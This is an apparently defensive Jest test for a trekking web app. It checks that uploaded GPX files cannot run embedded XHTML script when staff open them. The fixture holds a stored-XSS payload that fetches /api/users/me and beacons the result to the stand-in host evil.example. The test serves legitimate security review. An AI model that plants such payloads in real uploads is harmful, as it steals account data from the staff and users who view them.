import { describe, expect, it } from '@jest/globals'

import { api } from '../helpers/api'
import { testPayload } from '../helpers/payload'
import { upload } from '../catalog/upload'
import { quickTrekker } from '../bookings/support'
import { createUser } from '../helpers/fixtures'

/**
 * Review probe: stored script through a GPX upload. Any signed-in trekker may upload media,
 * and a GPX track is XML. Served back from this origin as an XML type, a browser renders it
 * as a document and runs XHTML-namespaced <script> elements in it; the fixed CSP outside the
 * admin pages allows inline script, so the script would run with the origin of the admin and
 * the API. The safe answer: serve tracks as a download (Content-Disposition:
 * attachment), as a non-rendered type, or under a CSP that forbids script (sandbox).
 */
describe('review: GPX uploads cannot carry script', () => {
  it('serves an uploaded GPX so that a browser will not run script inside it', async () => {
    const payload = await testPayload()
    const trekker = await quickTrekker(payload)
    const gpx = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1">',
      '<html:script xmlns:html="http://www.w3.org/1999/xhtml">',
      'fetch("/api/users/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))',
      '</html:script>',
      '<trk><name>Kedarkantha</name><trkseg><trkpt lat="31.02" lon="78.17"/></trkseg></trk>',
      '</gpx>',
    ].join('\n')
    const created = await upload(
      'media',
      { data: gpx, name: 'route.gpx', type: 'application/gpx+xml' },
      { token: trekker.token, data: { alt: 'my route' } },
    )
    if (created.status !== 201) {
      // Refusing a track with markup outside GPX is also safe.
      expect(created.status).toBe(400)
      return
    }
    // A member's unused upload is private: staff opening it are the ones at risk.
    const staff = await createUser(payload, 'cs')
    const file = await api('GET', `/media/file/${created.body.doc.filename}`, {
      token: staff.token,
    })
    expect(file.status).toBe(200)
    const type = file.headers.get('content-type') ?? ''
    const disposition = file.headers.get('content-disposition') ?? ''
    const csp = file.headers.get('content-security-policy') ?? ''
    const safe =
      /attachment/i.test(disposition) ||
      !/xml|html|svg/i.test(type) ||
      /sandbox|script-src 'none'/.test(csp)
    expect({ type, disposition, csp, safe }).toEqual({ type, disposition, csp, safe: true })
  })
})
